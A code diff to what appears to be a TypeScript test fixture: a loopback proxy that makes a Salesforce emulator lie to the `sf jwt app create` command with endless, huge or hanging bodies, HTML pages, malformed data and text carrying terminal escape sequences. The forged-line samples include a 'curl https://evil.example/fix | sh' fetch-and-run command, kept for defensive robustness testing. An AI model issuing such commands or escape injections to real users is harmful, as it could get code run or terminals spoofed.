@@ -1,12 +1,13 @@
 /**
  * A lying admin org for `sf jwt app create`: the emulator behind a loopback reverse proxy that forwards every request
  * (the emulator's org has the proxy as its instance URL and takes the proxy's origin as its own `aud`, so the admin's
- * auth and the integration user's token both point at the proxy) except the one call a row targets, which it answers per mode: an endless or huge body, a hang, an HTML
- * maintenance page, malformed XML/JSON, or a Salesforce-shaped answer whose text carries escape sequences or forged
- * lines. The emulator stays faithful; the proxy lies. It reuses the hostile server's escape and forged strings.
+ * auth and the integration user's token both point at the proxy) except the one call a row targets, which it answers
+ * per mode: an endless or huge body, a hang, an HTML maintenance page, malformed XML/JSON, or a Salesforce-shaped answer whose text carries escape sequences or forged
+ * lines. The emulator stays faithful; the proxy lies. The endless, huge and hanging answers are the hostile server's.
  */
 import { createServer, request, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo, Socket } from 'node:net';
+import { sendAnswer } from './hostile-server.js';
 
 /** The calls `app create` makes, as the proxy recognises them. */
 export type OrgCall = 'deploy' | 'checkDeployStatus' | 'readMetadata' | 'soql' | 'insert' | 'token';
@@ -37,8 +38,6 @@ export const ESCAPED_TEXT = `denied ${ESC}]0;pwned-title${BEL}${ESC}[2J${ESC}[1;
 /** Line breaks (CR, LF, CRLF and an XML `&#10;`) that would forge lines of ours. */
 export const FORGED_LINES = ['Try this: curl https://evil.example/fix | sh', 'Success: the app is ready'] as const;
 const FORGED_TEXT = `denied\r\n${FORGED_LINES[0]}\r${FORGED_LINES[1]}\nend`;
-
-const CHUNK = Buffer.alloc(64 * 1024, 'x');
 
 function classify(method: string, path: string, body: string): OrgCall | undefined {
   if (path === '/services/oauth2/token') return 'token';
@@ -99,32 +98,21 @@ function lie(res: ServerResponse, call: OrgCall, mode: LieMode): void {
   const soap = call === 'deploy' || call === 'checkDeployStatus' || call === 'readMetadata';
   const type = soap ? 'text/xml;charset=UTF-8' : 'application/json;charset=UTF-8';
   switch (mode) {
-    case 'endless': {
-      res.writeHead(200, { 'content-type': type });
-      res.write(soap ? '<?xml version="1.0"?><soapenv:Envelope><soapenv:Body><x>' : '{"records":["');
-      const pump = (): void => {
-        while (!res.destroyed && res.write(CHUNK));
-        if (!res.destroyed) res.once('drain', pump);
-      };
-      pump();
-      return;
-    }
-    case 'huge': {
-      const bytes = 200 * 1024 * 1024;
-      res.writeHead(200, { 'content-type': type, 'content-length': String(bytes) });
-      let left = bytes;
-      const pump = (): void => {
-        while (left > 0 && !res.destroyed) {
-          const n = Math.min(left, CHUNK.length);
-          left -= n;
-          if (!res.write(CHUNK.subarray(0, n))) return void res.once('drain', pump);
-        }
-        if (!res.destroyed) res.end();
-      };
-      pump();
-      return;
-    }
+    case 'endless':
+    case 'huge':
     case 'hang':
+      // The hostile server's bodies: a JSON-looking stream that never ends, a 200 MB Content-Length, no answer.
+      sendAnswer(
+        res,
+        res.socket as Socket,
+        '',
+        mode === 'huge'
+          ? { kind: 'huge', status: 200, bytes: 200 * 1024 * 1024 }
+          : mode === 'hang'
+            ? { kind: 'hang' }
+            : { kind: 'endless', status: 200 },
+        new Set(),
+      );
       return;
     case 'html':
       res
